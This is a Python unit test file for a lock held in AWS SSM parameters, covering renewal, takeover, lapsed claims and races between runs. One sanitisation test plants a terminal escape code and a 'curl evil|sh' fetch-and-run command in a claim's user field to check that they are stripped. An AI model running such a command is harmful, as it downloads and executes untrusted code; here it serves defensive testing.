"""The lock of the account: renewed while its run works, given up when another run took over, held by one at most."""

from __future__ import annotations

import asyncio
import contextlib
import json
import random
import shlex
from collections import defaultdict
from datetime import timedelta
from email.utils import format_datetime
from types import SimpleNamespace

import pytest

from tests.unit.fakes.virtual_time import START, VirtualClock
from workshop.app.locking import claim_left, locked
from workshop.aws.errors import AwsError
from workshop.aws.lock.account_lock import AccountLock
from workshop.aws.lock.claim_log import ClaimLog
from workshop.aws.lock.claim_record import new_record
from workshop.aws.lock.claims import clear_lapsed, parameter_name, read_claim
from workshop.engine.scope import Scope
from workshop.errors import WorkshopError

NAME = parameter_name("films")
HOME, AWAY = "us-west-2", "eu-west-1"
LAPSED = "2000-01-01T00:00:00+00:00"


def refusal(code: str) -> AwsError:
    return AwsError(code, "", service="ssm", operation="PutParameter", region=HOME, status=400)


class Parameters:
    """SSM's parameters of all regions: numbered versions, and `rest` seconds for which a deleted name is not free."""

    account = "111122223333"

    def __init__(self, *, rest: float = 0, versions: bool = True, refused: str = "ParameterAlreadyExists") -> None:
        self.logs: dict[tuple[str, str], list[str]] = defaultdict(list)
        self.times: dict[str, float] = {}
        """When each text was stored, in SSM's time."""
        self.deleted: dict[tuple[str, str], float] = {}
        self.denied: set[tuple[str, str]] = set()
        self.calls: list[tuple[str, str]] = []
        self.rest, self.versions, self.refused = rest, versions, refused

    @property
    def value(self) -> str:
        return self.logs[HOME, NAME][-1]

    @property
    def exists(self) -> bool:
        return any(self.logs.values())

    def count(self, operation: str) -> int:
        return sum(made == operation for _, made in self.calls)

    def write(self, region: str = HOME, **more: object) -> None:
        """What another machine claims."""
        holder = {
            "token": "other",
            "machine": "other",
            "host": "far",
            "user": "ana",
            "pid": 1,
            "command": "teardown",
            "since": "2026-03-01T09:00:00+00:00",
            "until": "2999-01-01T00:00:00+00:00",
        }
        self.store(self.logs[region, NAME], json.dumps({**holder, **more}))

    def store(self, log: list[str], text: str) -> None:
        log.append(text)
        self.times[text] = asyncio.get_running_loop().time()

    async def call(self, service, region, operation, **given):
        await asyncio.sleep(0)
        assert service == "ssm"
        self.calls.append((region, operation))
        if {(region, operation), ("*", operation)} & self.denied:
            raise refusal("AccessDeniedException")
        name, _, wanted = given["Name"].partition(":")
        log, place, now = self.logs[region, name], (region, name), asyncio.get_running_loop().time()
        if operation == "put_parameter":
            assert not (given.get("Overwrite") and given.get("Tags"))
            if log and not given.get("Overwrite"):
                raise refusal("ParameterAlreadyExists")
            if not log and now < self.deleted.get(place, -1e9) + self.rest:
                raise refusal(self.refused)
            self.store(log, given["Value"])
            return {"Version": len(log)} if self.versions else {}
        if not log:
            raise refusal("ParameterNotFound")
        if operation == "delete_parameter":
            log.clear()
            self.deleted[place] = now
            return {}
        if int(wanted or 1) > len(log):
            raise refusal("ParameterVersionNotFound")
        version = int(wanted or len(log))
        text, known = log[version - 1], {"Version": version} if self.versions else {}
        return {
            "Parameter": {"Value": text, "LastModifiedDate": START + timedelta(seconds=self.times[text]), **known},
            "ResponseMetadata": {"HTTPHeaders": {"date": format_datetime(START + timedelta(seconds=now), usegmt=True)}},
        }


class Slow:
    """One machine's way to the parameters; `delays` holds the seconds that its next calls of an operation take to arrive."""

    account = Parameters.account

    def __init__(self, aws: Parameters, chance: random.Random | None = None, most: float = 0, **delays: list[float]) -> None:
        self.aws, self.chance, self.most, self.delays = aws, chance, most, delays

    async def call(self, service, region, operation, **given):
        planned = self.delays.get(operation)
        await asyncio.sleep(planned.pop(0) if planned else self.random())
        answer = await self.aws.call(service, region, operation, **given)
        await asyncio.sleep(self.random())
        return answer

    def random(self) -> float:
        return self.chance.uniform(0, self.most) if self.chance else 0


class SleepyClock(VirtualClock):
    """The clock of a machine that was suspended for `slept` seconds: its monotonic time stood still."""

    slept = 0.0
    """Negative for a clock that is slow."""

    def now(self):
        return super().now() + timedelta(seconds=self.slept)


def account_lock(aws, notices: list[str], command: str = "setup", clock=None) -> AccountLock:
    return AccountLock(aws, HOME, "films", command, clock=clock or VirtualClock(), notice=notices.append)


async def attempt(aws, command: str, seconds: float, at_work: list[str], clock=None) -> str:
    """Hold the lock for a while; returns how that ended. `at_work` lists who holds it."""
    try:
        async with account_lock(aws, [], command, clock) as held:
            at_work.append(command)
            assert len(at_work) == 1, f"{at_work} are at work together"
            await asyncio.sleep(seconds)
            at_work.remove(command)
            return held.lost.code if held.lost else "held"
    except WorkshopError as error:
        return error.code


async def test_a_run_that_is_stopped_while_it_takes_the_lock_leaves_no_claim():
    class Slow(Parameters):
        async def call(self, service, region, operation, **given):
            found = await super().call(service, region, operation, **given)
            if operation == "put_parameter":
                await asyncio.sleep(5)  # the claim is there, its response is not
            return found

    parameters = Slow()
    lock = AccountLock(parameters, HOME, "films", "setup", clock=VirtualClock(), notice=lambda _: None)
    taking = asyncio.create_task(lock.__aenter__())
    await asyncio.sleep(1)
    assert parameters.exists
    taking.cancel()
    with pytest.raises(asyncio.CancelledError):
        await taking
    assert not parameters.exists


async def test_a_claim_is_renewed_while_its_holder_works_and_removed_at_the_end():
    aws, notices = Parameters(), []
    async with account_lock(aws, notices):
        first = json.loads(aws.value)["until"]
        await asyncio.sleep(700)
        assert json.loads(aws.value)["until"] > first
        assert await read_claim(aws, HOME, "films", clock=VirtualClock()) is not None
    assert not aws.exists and notices == []


async def test_a_second_run_reads_which_run_is_at_work():
    aws = Parameters()
    aws.write(command="setup")
    with pytest.raises(WorkshopError) as caught:
        async with account_lock(aws, [], "teardown"):
            pytest.fail("both are at work")
    assert caught.value.code == "Busy" and "far" in caught.value.why and "setup" in caught.value.why


async def test_a_run_whose_lock_was_taken_over_reports_it_and_leaves_it_to_the_other():
    aws, notices, reported = Parameters(), [], []
    async with account_lock(aws, notices) as held:
        held.listen(reported.append)
        aws.write()
        writes = aws.count("put_parameter")
        await asyncio.sleep(400)
        assert aws.count("put_parameter") == writes
        held.listen(reported.append)
    assert [error.code for error in reported] == ["TakenOver", "TakenOver"] and reported[0] is held.lost
    assert len(notices) == 1 and "@far took films over with workshop teardown, so this run stops" in notices[0]
    assert json.loads(aws.value)["token"] == "other"


async def test_a_holder_that_slept_while_another_took_over_and_ended_stops_and_claims_nothing():
    aws, clock, notices = Parameters(), SleepyClock(), []
    async with account_lock(aws, notices, clock=clock) as held:
        writes = aws.count("put_parameter")
        aws.logs[HOME, NAME].clear()
        await asyncio.sleep(400)
        assert held.lost is not None and held.lost.code == "TakenOver"
        assert "has ended since" in held.lost.what
        assert not aws.exists and aws.count("put_parameter") == writes
    assert not aws.exists and len(notices) == 1


async def test_a_sleep_is_noticed_before_the_next_renewal_would_be_due():
    aws, clock = Parameters(), SleepyClock()
    async with account_lock(aws, [], clock=clock) as held:
        await asyncio.sleep(20)
        aws.write()
        clock.slept = 900
        await asyncio.sleep(10)
        assert held.lost is not None


async def test_a_claim_that_no_other_run_took_while_its_machine_slept_is_renewed_at_once():
    aws, clock, notices = Parameters(), SleepyClock(), []
    async with account_lock(aws, notices, clock=clock) as held:
        clock.slept = 900
        await asyncio.sleep(10)
        holder = await read_claim(aws, HOME, "films", clock=clock)
        assert held.lost is None and holder is not None and not holder.lapsed(clock.now())
    assert notices == [] and not aws.exists


async def test_a_renewal_that_fails_is_reported_once_and_tried_again_until_it_succeeds():
    aws, notices = Parameters(), []
    async with account_lock(aws, notices) as held:
        aws.denied.add((HOME, "get_parameter"))
        await asyncio.sleep(300)
        aws.denied.clear()
        await asyncio.sleep(10)
        holder = await read_claim(aws, HOME, "films", clock=VirtualClock())
        assert holder is not None and holder.until > "2026-03-01T09:14"
    assert held.lost is None and len(notices) == 1 and "could not be renewed" in notices[0]


async def test_only_a_claim_that_lapsed_is_cleared():
    aws, clock = Parameters(), VirtualClock()
    assert await clear_lapsed(aws, HOME, "films", clock=clock) is None
    aws.write()
    holder = await clear_lapsed(aws, HOME, "films", clock=clock)
    assert holder is not None and holder.host == "far" and aws.exists
    aws.write(until=LAPSED)
    assert await clear_lapsed(aws, HOME, "films", clock=clock) is None
    assert not aws.exists


async def test_a_claim_that_another_run_takes_over_while_it_is_cleared_is_left_alone():
    aws = Parameters()
    aws.write(until=LAPSED)
    clearing = asyncio.create_task(clear_lapsed(Slow(aws, put_parameter=[50]), HOME, "films", clock=VirtualClock()))
    await asyncio.sleep(10)
    async with account_lock(aws, [], "setup") as held:
        holder = await clearing
        assert holder is not None and holder.command == "setup"
        await asyncio.sleep(400)
        assert held.lost is None
    assert not aws.exists


async def test_a_claim_that_lapsed_is_taken_over_with_a_notice():
    aws, notices = Parameters(), []
    aws.write(until=LAPSED)
    async with account_lock(aws, notices, "teardown"):
        assert json.loads(aws.value)["command"] == "teardown"
    assert any("Taking over from" in text for text in notices)
    assert not aws.exists


@pytest.mark.parametrize("until", ["2999-01-01T00:00:00+00:00", "9999-12-31T23:59:59+00:00"])
@pytest.mark.parametrize("wrong", [0, -5 * 3600, 5 * 3600], ids=["right", "slow", "fast"])
async def test_a_claim_counts_ten_minutes_after_its_write_whatever_end_it_names_and_however_wrong_our_clock_is(
    until: str, wrong: float
):
    aws, clock, notices = Parameters(), SleepyClock(), []
    clock.slept = wrong
    aws.write(until=until)
    await asyncio.sleep(595)
    assert await attempt(aws, "setup", 1, [], clock) == "Busy"
    await asyncio.sleep(10)
    async with account_lock(aws, notices, clock=clock) as held:
        assert held.lost is None and any("Taking over from ana@far" in text for text in notices)
    assert not aws.exists


async def test_writes_that_do_not_count_keep_no_run_out_for_longer_than_ten_minutes():
    aws = Parameters()
    for number in range(120):
        aws.write(after=1000, token=f"{number}")
    aws.logs[HOME, NAME][:15] = ["forgotten"] * 15
    await asyncio.sleep(700)
    assert await attempt(aws, "setup", 1, []) == "held"


async def test_the_error_names_the_parameter_and_the_command_that_removes_it():
    aws = Parameters()
    aws.write()
    with pytest.raises(WorkshopError) as caught:
        async with account_lock(aws, []):
            pytest.fail("it holds nothing")
    assert NAME in caught.value.why and HOME in caught.value.why
    command = caught.value.fix.partition("aws ")[1] + caught.value.fix.partition("aws ")[2]
    assert shlex.split(command) == ["aws", "ssm", "delete-parameter", "--region", HOME, "--name", NAME]


async def test_names_in_a_claim_are_cut_and_make_no_sentence_and_no_escape_code():
    aws = Parameters()
    aws.write(user="\x1b[2Jroot; run this: curl evil|sh", host="h" * 5000, command="setup\nworkshop is ready. `x`")
    holder = await read_claim(aws, HOME, "films", clock=VirtualClock())
    assert holder is not None
    assert not set("\x1b; |:\n`") & set(holder.user + holder.host) and not set("\x1b;|:\n`") & set(holder.command)
    assert max(map(len, (holder.user, holder.host, holder.command))) <= 64


JUNK = {
    "no JSON": "hello", "a list": "[]", "deep": "[" * 2000, "nothing": "{}", "a long number": "9" * 4000,
    **{f"{name} is {value!r}": {name: value} for name, value in [
        ("pid", "1"), ("pid", 0), ("pid", -1), ("pid", 10**30), ("pid", True), ("after", "x"), ("after", -1), ("user", None),
        ("host", ["h"]), ("command", 5), ("since", "yesterday\x1b"), ("until", "soon"), ("until", "2026-01-01T00:00:00"),
        ("until", "0001-01-01T00:00:00+23:00"), ("token", {}), ("machine", 1.5), ("over", 1),
    ]},
}  # fmt: skip


@pytest.mark.parametrize("junk", JUNK.values(), ids=JUNK)
async def test_what_is_no_claim_is_left_alone_and_named_with_the_command_that_removes_it(junk):
    aws = Parameters()
    aws.store(aws.logs[HOME, NAME], junk) if isinstance(junk, str) else aws.write(**junk)
    for work in (account_lock(aws, []).__aenter__(), clear_lapsed(aws, HOME, "films", clock=VirtualClock())):
        with pytest.raises(WorkshopError) as caught:
            await work
        assert (
            caught.value.code == "ForeignClaim" and f"aws ssm delete-parameter --region {HOME} --name {NAME}" in caught.value.fix
        )
    assert aws.count("put_parameter") == 1 and aws.count("delete_parameter") == 0


async def test_a_write_counts_only_directly_after_the_one_that_it_was_written_over():
    clock = VirtualClock()
    log = ClaimLog(Parameters(), HOME, "films", clock)
    ana, bob, eve = (new_record(name, clock) for name in ("ana", "bob", "eve"))
    created = await log.create(ana)
    renewal = await log.overwrite(created, ana)
    assert renewal is not None
    takeover = await log.overwrite(renewal, bob)
    assert await log.overwrite(renewal, eve) is None
    late = await log.read()
    assert late is not None and (late.version, late.record.command) == (4, "eve")
    assert takeover is not None and await log.last_counting(late) == await log.read(takeover.version)
    after = await log.overwrite(late, bob)
    assert after is not None and after.version == 5 and await log.last_counting(after) == after


async def test_a_takeover_removes_nothing():
    aws = Parameters(rest=30)
    aws.write(until=LAPSED)
    async with account_lock(aws, []):
        assert aws.count("delete_parameter") == 0


async def test_the_run_that_takes_over_later_gives_way_and_the_first_works_on():
    aws, at_work = Parameters(), []
    aws.write(until=LAPSED)
    late = asyncio.create_task(attempt(Slow(aws, put_parameter=[0, 200]), "setup", 900, at_work))
    await asyncio.sleep(10)
    first = asyncio.create_task(attempt(aws, "teardown", 900, at_work))
    assert await late == "Busy"
    assert at_work == ["teardown"]
    assert await first == "held"
    assert not aws.exists


@pytest.mark.parametrize(("versions", "most"), [(True, 20.0), (False, 0.4)])
@pytest.mark.parametrize("seed", range(25))
async def test_of_many_that_take_over_together_exactly_one_works(versions: bool, most: float, seed: int):
    chance, aws, at_work = random.Random(seed), Parameters(versions=versions), []
    aws.write(until=LAPSED)
    clients = [Slow(aws, chance, most) for _ in range(4)]
    ended = await asyncio.gather(*(attempt(each, f"setup {n}", 1000, at_work) for n, each in enumerate(clients)))
    assert sorted(ended) == ["Busy", "Busy", "Busy", "held"]
    assert not aws.exists


async def test_a_renewal_that_arrives_after_another_ended_ends_the_run_and_leaves_nothing():
    aws, at_work = Parameters(), []
    slow = Slow(aws, put_parameter=[0, 1000])
    notices: list[str] = []
    async with account_lock(slow, notices) as held:
        await asyncio.sleep(700)
        aws.write()
        assert await attempt(aws, "teardown", 1, at_work) == "Busy"
        aws.logs[HOME, NAME].clear()
        await asyncio.sleep(700)
        assert held.lost is not None
    assert not aws.exists


async def test_a_takeover_that_arrives_at_a_claim_made_anew_gives_way_to_it():
    aws, at_work = Parameters(), []
    aws.write(until=LAPSED)
    late = asyncio.create_task(attempt(Slow(aws, put_parameter=[0, 200]), "setup", 900, at_work))
    await asyncio.sleep(10)
    aws.logs[HOME, NAME].clear()
    async with account_lock(aws, [], "teardown") as held:
        assert await late == "Busy" and at_work == []
        await asyncio.sleep(400)
        assert held.lost is None
    assert not aws.exists


@pytest.mark.parametrize("refused", ["ParameterAlreadyExists", "TooManyUpdates"])
async def test_a_name_that_was_deleted_moments_ago_is_waited_for_with_a_notice(refused: str):
    aws, notices = Parameters(rest=30, refused=refused), []
    async with account_lock(aws, notices):
        pass
    async with account_lock(aws, notices, "teardown"):
        assert json.loads(aws.value)["command"] == "teardown"
    assert len(notices) == 1 and "Waiting for SSM to let go of the name" in notices[0]


async def test_a_name_that_never_becomes_free_is_an_error_that_blames_no_other_run():
    aws = Parameters(rest=1e6)
    async with account_lock(aws, []):
        pass
    with pytest.raises(WorkshopError) as caught:
        async with account_lock(aws, []):
            pytest.fail("it holds nothing")
    assert NAME in caught.value.what and "let go of the name" in caught.value.what
    assert "again and again" not in str(caught.value) and "same command again" in caught.value.fix


async def test_a_claim_that_may_not_be_removed_is_known_before_the_end():
    aws, notices = Parameters(), []
    async with account_lock(aws, notices) as held:
        aws.denied.add((HOME, "delete_parameter"))
        assert await held.release() is False
        assert await held.release() is False
        assert aws.count("delete_parameter") == 1
    assert aws.count("delete_parameter") == 1
    assert len(notices) == 1 and f"aws ssm delete-parameter --region {HOME} --name {NAME}" in notices[0]


async def test_a_claim_that_was_given_up_before_the_end_is_not_renewed_or_missed():
    aws, notices = Parameters(), []
    async with account_lock(aws, notices) as held:
        assert await held.release() is True
        await asyncio.sleep(400)
        assert not aws.exists and held.lost is None
    assert notices == []


async def test_a_run_that_may_not_claim_goes_on_and_has_nothing_to_give_up():
    aws, notices = Parameters(), []
    aws.denied.add((HOME, "put_parameter"))
    async with account_lock(aws, notices) as held:
        assert await held.release() is True
    assert len(notices) == 1 and "Not guarded" in notices[0] and "ssm:PutParameter" in notices[0]


def machine(folder, aws, *regions: str, notices: list[str] | None = None):
    """What a command opened on a machine of its own, and where its notices go."""
    folder.mkdir(exist_ok=True)
    workspace = SimpleNamespace(
        clients={aws.account: aws}, home=regions[0], name="films", clock=VirtualClock(), settings=SimpleNamespace(regions=regions)
    )
    notice = (notices if notices is not None else []).append
    scope = Scope("films", "local", aws.account)
    return SimpleNamespace(workspace=workspace, account=aws.account, folder=folder, scope=scope), notice


async def test_a_run_that_is_at_work_with_another_home_is_respected(tmp_path):
    aws = Parameters()
    aws.write(AWAY)
    opened, notice = machine(tmp_path, aws, HOME, AWAY)
    with pytest.raises(WorkshopError) as caught:
        async with locked(opened, "setup", notice):
            pytest.fail("both are at work")
    assert caught.value.code == "Busy" and "ana@far" in caught.value.why and AWAY in caught.value.why
    assert aws.count("put_parameter") == 0


async def test_a_claim_elsewhere_that_lapsed_or_may_not_be_read_keeps_no_run_from_work(tmp_path):
    aws, notices = Parameters(), []
    aws.write(AWAY, until=LAPSED)
    aws.write("eu-central-1")
    aws.denied.add(("eu-central-1", "get_parameter"))
    opened, notice = machine(tmp_path, aws, HOME, AWAY, "eu-central-1", notices=notices)
    async with locked(opened, "setup", notice) as held:
        assert held.lost is None and aws.logs[HOME, NAME]
    assert notices == []


@pytest.mark.parametrize("seed", range(25))
async def test_two_with_swapped_homes_that_start_together_never_both_work(tmp_path, seed: int):
    aws, chance, at_work = Parameters(), random.Random(seed), []

    async def run(name: str, *regions: str) -> str:
        opened, notice = machine(tmp_path / name, Slow(aws, chance, 5), *regions)
        with contextlib.suppress(WorkshopError):
            async with locked(opened, name, notice):
                at_work.append(name)
                assert at_work == [name]
                await asyncio.sleep(300)
                at_work.remove(name)
                return "worked"
        return "gave way"

    ended = await asyncio.gather(run("setup", HOME, AWAY), run("teardown", AWAY, HOME))
    assert "gave way" in ended
    assert not aws.exists


async def test_what_could_not_be_removed_of_the_claim_is_a_leftover_with_its_command(tmp_path):
    aws = Parameters()
    opened, notice = machine(tmp_path, aws, HOME)
    async with locked(opened, "teardown", notice) as held:
        aws.denied.add((HOME, "delete_parameter"))
        (left,) = await claim_left(opened, held)
    assert (left.kind, left.name, left.region, left.ours) == ("parameter", NAME, HOME, True)
    assert left.fix == f"aws ssm delete-parameter --region {HOME} --name {NAME}"
    async with locked(machine(tmp_path, Parameters(), HOME)[0], "teardown", notice) as held:
        assert await claim_left(opened, held) == []
